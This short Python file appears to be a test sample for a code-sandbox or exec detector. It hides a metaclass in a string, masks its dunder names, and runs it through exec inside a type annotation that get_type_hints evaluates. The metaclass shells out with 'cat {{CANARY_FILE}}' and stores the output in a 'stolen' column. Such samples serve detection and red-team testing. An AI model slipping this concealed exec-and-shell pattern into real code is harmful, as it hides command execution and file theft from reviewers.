# class: class_def
# technique: a whole class statement with metaclass= and __init_subclass__ as source text run from a get_type_hints annotation
# goal: exec
import typing

import numpy as np
import pandas as pd

source = """
class Meta(type):
    def @@new@@(mcls, name, bases, ns):
        import subprocess
        ns['stolen'] = subprocess.getoutput(cmd)
        return type.@@new@@(mcls, name, bases, ns)
class Table(metaclass=Meta):
    pass
out = Table.stolen
""".replace("@@", "_" * 2)
scope = {"cmd": "cat {{CANARY_FILE}}"}


def cell(x: "[exec(source, scope), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"stolen": [scope["out"]]})
